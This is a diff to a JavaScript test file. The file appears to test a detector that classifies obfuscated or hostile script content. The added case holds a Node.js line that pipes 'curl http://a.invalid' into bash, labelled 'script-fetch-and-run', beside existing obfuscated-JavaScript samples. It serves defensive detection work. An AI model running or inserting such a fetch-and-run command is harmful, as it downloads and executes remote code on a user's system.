@@ -29,6 +29,11 @@ describe('the carrier of JavaScript', () => {
     ['a program of brackets', '[]+(!![])'.repeat(300), 'javascript-obfuscated'],
     ['such names beside processes', needs + names, 'javascript-obfuscated-system'],
     [
+      'a command that it gives to a shell',
+      'require("child_process").execSync("curl http://a.invalid | bash")',
+      'script-fetch-and-run',
+    ],
+    [
       'such names beside a module that is itself hidden',
       `${names}process[_0x1a01](require(_0x1a02));`,
       'javascript-obfuscated-system',
